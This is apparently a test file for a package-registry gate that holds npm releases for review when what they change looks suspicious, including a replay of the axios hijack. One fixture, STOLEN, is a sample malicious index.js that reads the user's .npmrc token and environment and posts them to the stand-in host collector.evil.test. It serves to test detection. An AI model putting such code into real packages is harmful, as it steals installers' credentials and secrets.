/** What a release changed decides beside its age: the real hijack of axios in shape, with the wait switched off and on. */
import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { SHIPPED_TRUST } from "../../src/edge/trust/shipped.ts";
import { storeTrust } from "../../src/edge/trust/trust.ts";
import type { Fixture } from "../kit/fixture.ts";
import { FIXTURE_TRUST } from "../kit/fixture/sigstore.ts";
import { send } from "../kit/http.ts";
import { releaseText } from "../kit/stage.ts";
import { until } from "../kit/until.ts";
import { openFixture, openGate, openProduct, type Opened } from "./open.ts";

const NO_WAIT = "policy: { hold: 0s }\n";

/** Puts the releases as they really were in the place of the ones that are only young. */
function hijack(fixture: Fixture, versions: readonly string[]): void {
  for (const version of versions)
    fixture.publish(readFileSync(new URL(`../registry/axios-hijack/${version}.txt`, import.meta.url), "utf8"), { replace: true });
}

async function whyOf({ get }: Opened, spec: string) {
  const answer = await get(`/-/cordon/why/${spec}`);
  const { verdict, signals } = JSON.parse(answer.body.toString()) as {
    verdict: { action: string; reasons: string[] };
    signals: { id: string; effect: string; evidence: { text: string; source: string }[] }[];
  };
  return { ...verdict, signals };
}

test("without any wait the hijacked axios is held for what changed", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get } = opened;
  // The release before is known before the theft, as at any gate in use.
  fixture.clock.set("2026-03-30T12:00:00Z");
  expect((await get("/axios")).status).toBe(200);
  fixture.clock.set("2026-03-31T00:22:00Z");
  hijack(fixture, ["1.14.1"]);
  const { action, reasons } = await whyOf(opened, "axios@1.14.1");
  expect(action).toBe("review");
  expect(reasons).toContain("trusted-publisher-dropped");
  const tarball = await get("/axios/-/axios-1.14.1.tgz");
  expect(tarball.status).toBe(403);
  expect(fixture.log.find({ route: "tarball", name: "axios", version: "1.14.1" })).toEqual([]);
});

test("time ends no review: the hijacked axios is not served after 72 hours either", async () => {
  const opened = await openGate();
  const { fixture, get } = opened;
  fixture.clock.set("2026-03-30T12:00:00Z");
  expect((await get("/axios")).status).toBe(200);
  fixture.clock.set("2026-03-31T01:01:00Z");
  hijack(fixture, ["1.14.1", "0.30.4"]);
  fixture.clock.set("2026-04-03T02:00:00Z");
  const answer = JSON.parse((await get("/axios")).body.toString()) as { versions: object; "dist-tags": Record<string, string> };
  expect(Object.keys(answer.versions)).not.toContain("1.14.1");
  expect(answer["dist-tags"]).toMatchObject({ latest: "1.14.0", legacy: "0.30.3" });
});

const PLAIN = (version: string, when: string, ...words: readonly string[]) => releaseText(`quiet@${version}`, when, words);
const TEXT = (version: string, when: string, code: string) =>
  `published ${when} by maker\n-- package.json --\n{"name":"quiet","version":"${version}","license":"MIT","main":"index.js"}\n-- index.js --\n${code}\n`;

const STOLEN = [
  `const { execSync } = require("child_process"), https = require("https"), fs = require("fs"), os = require("os");`,
  `const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");`,
  `const all = Buffer.from(JSON.stringify({ env: process.env, token })).toString("base64");`,
  `https.request({ host: "collector.evil.test", method: "POST" }).end(all);`,
  `execSync("true");`,
].join("\n");

test("a release is looked at before its tarball is served, once, and what is found is kept", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get } = opened;
  for (const [version, when] of [
    ["1.0.0", "2025-06-01T00:00:00Z"],
    ["1.0.1", "2025-10-01T00:00:00Z"],
    ["1.0.2", "2026-01-10T00:00:00Z"],
  ] as const)
    fixture.publish(TEXT(version, when, `exports.version = "${version}";`));
  fixture.publish(TEXT("1.0.3", "2026-03-30T00:00:00Z", STOLEN));
  fixture.publish(TEXT("1.0.4", "2026-03-30T01:00:00Z", `exports.version = "1.0.4";`));

  // Its packument says nothing of it; the first who asks for the bytes learns it, and then nobody is offered it.
  expect((await get("/quiet/-/quiet-1.0.3.tgz")).status).toBe(403);
  const { action, reasons, signals } = await whyOf(opened, "quiet@1.0.3");
  expect({ action, reasons }).toEqual({ action: "review", reasons: ["capability-added"] });
  expect(signals.find(({ id }) => id === "capability-added")!.evidence.some(({ source }) => /index\.js/.test(source))).toBe(true);
  const listed = JSON.parse((await get("/quiet")).body.toString()) as { versions: object };
  expect(Object.keys(listed.versions)).toEqual(["1.0.0", "1.0.1", "1.0.2", "1.0.4"]);

  expect((await get("/quiet/-/quiet-1.0.4.tgz")).status).toBe(200);
  const asked = fixture.log.find({ route: "tarball" }).length;
  expect((await get("/quiet/-/quiet-1.0.4.tgz")).status).toBe(200);
  expect((await get("/quiet/-/quiet-1.0.3.tgz")).status).toBe(403);
  expect(fixture.log.find({ route: "tarball" })).toHaveLength(asked);
});

test("a look that cannot be taken holds a young version, is said, and is tried again", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get } = opened;
  fixture.publish(PLAIN("1.0.0", "2025-06-01T00:00:00Z"));
  fixture.publish(PLAIN("1.0.1", "2026-03-30T00:00:00Z"));
  expect((await get("/quiet")).status).toBe(200);
  const mend = fixture.faults.add({ route: "tarball", name: "quiet", version: "1.0.0" }, { status: 503 });
  expect((await get("/quiet/-/quiet-1.0.1.tgz")).status).toBe(403);
  expect((await whyOf(opened, "quiet@1.0.1")).reasons).toEqual(["not-checked:tarball"]);
  mend();
  fixture.clock.advance("2m");
  expect((await get("/quiet/-/quiet-1.0.1.tgz")).status).toBe(200);
});

test("a predecessor whose tarball is gone is stood in for by the release before it; with none left there is nothing to compare with", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get } = opened;
  for (const [version, when] of [
    ["1.0.0", "2025-06-01T00:00:00Z"],
    ["1.0.1", "2025-10-01T00:00:00Z"],
    ["1.0.2", "2026-03-30T00:00:00Z"],
    ["1.0.3", "2026-03-30T01:00:00Z"],
  ] as const)
    fixture.publish(PLAIN(version, when));
  fixture.faults.add({ route: "tarball", name: "quiet", version: "1.0.1" }, { status: 404 });
  expect((await get("/quiet/-/quiet-1.0.2.tgz")).status).toBe(200);
  expect(fixture.log.find({ route: "tarball", version: "1.0.0" })).toHaveLength(1);
  fixture.faults.add({ route: "tarball", name: "quiet", version: "1.0.0" }, { status: 404 });
  expect((await get("/quiet/-/quiet-1.0.3.tgz")).status).toBe(200);
});

test("a version that says it is years old and was not there yesterday is looked at like a young one", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get } = opened;
  fixture.publish(PLAIN("1.0.0", "2021-06-01T00:00:00Z"));
  expect((await get("/quiet")).status).toBe(200);
  fixture.clock.advance("1d");
  fixture.publish(TEXT("1.0.1", "2021-10-01T00:00:00Z", STOLEN));
  expect((await get("/quiet/-/quiet-1.0.1.tgz")).status).toBe(403);
  expect((await whyOf(opened, "quiet@1.0.1")).reasons).toContain("capability-added");
});

test("what no believed key could verify is looked at again as soon as a newer key is believed", async () => {
  const fixture = await openFixture();
  // Without the fixture's own trust, so with what cordon ships.
  const product = await openProduct({ fixture: { url: fixture.url, clock: fixture.clock }, config: NO_WAIT });
  const gate = await product.gate();
  const get = (path: string) => send(gate.url, { method: "GET", path });
  for (const [version, when] of [
    ["1.0.0", "2025-06-01T00:00:00Z"],
    ["1.0.1", "2026-03-30T00:00:00Z"],
  ] as const)
    fixture.publish(PLAIN(version, when));
  const refused = await get("/quiet/-/quiet-1.0.1.tgz");
  expect(refused.status).toBe(403);
  expect(refused.body.toString()).toContain("unverifiable");
  const { keys } = JSON.parse(SHIPPED_TRUST.keys) as { keys: object[] };
  const more = [...keys, ...(JSON.parse(FIXTURE_TRUST.keys) as { keys: object[] }).keys];
  await storeTrust(product.data, { keys: Buffer.from(JSON.stringify({ keys: more })), from: "keys.json", at: fixture.clock.now() });
  const status = async () => (await get("/quiet/-/quiet-1.0.1.tgz")).status;
  expect(await until(status, (now) => now === 200)).toBe(200);
});

test("a registry that signs nothing is told of once, not with each version", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get, product } = opened;
  for (const name of ["quiet", "still"])
    for (const [version, when] of [
      ["1.0.0", "2025-06-01T00:00:00Z"],
      ["1.0.1", "2026-03-30T00:00:00Z"],
    ] as const)
      fixture.publish(`unsigned\n${releaseText(`${name}@${version}`, when, [])}`);
  for (const name of ["quiet", "still"]) expect((await get(`/${name}/-/${name}-1.0.1.tgz`)).status).toBe(200);
  expect((await whyOf(opened, "quiet@1.0.1")).signals.map(({ id }) => id)).not.toContain("unsigned-registry");
  expect(product.log.filter(({ what }) => what === "unsigned-registry")).toMatchObject([{ fields: { name: new URL(fixture.url).host } }]);
});

test("a wave of one publisher's packages is told of each of them, also of the first that passed", async () => {
  const opened = await openGate({ config: NO_WAIT });
  const { fixture, get } = opened;
  const names = ["wave-a", "wave-b", "wave-c", "wave-d"];
  const publish = (name: string, version: string, when: string) =>
    fixture.publish(`published ${when} by qix <qix@example.test>\n-- package.json --\n{"name":"${name}","version":"${version}"}\n`);
  for (const [n, name] of names.entries()) {
    publish(name, "1.0.0", `2026-02-0${n + 1}T00:00:00Z`);
    publish(name, "1.0.1", `2026-03-30T00:1${n}:00Z`);
  }
  const isTold = async (name: string) => (await whyOf(opened, `${name}@1.0.1`)).signals.some(({ id }) => id === "publish-burst");
  expect(await isTold("wave-a")).toBe(false);
  for (const name of names) expect((await get(`/${name}`)).status).toBe(200);
  for (const name of names) expect([name, await isTold(name)]).toEqual([name, true]);
});
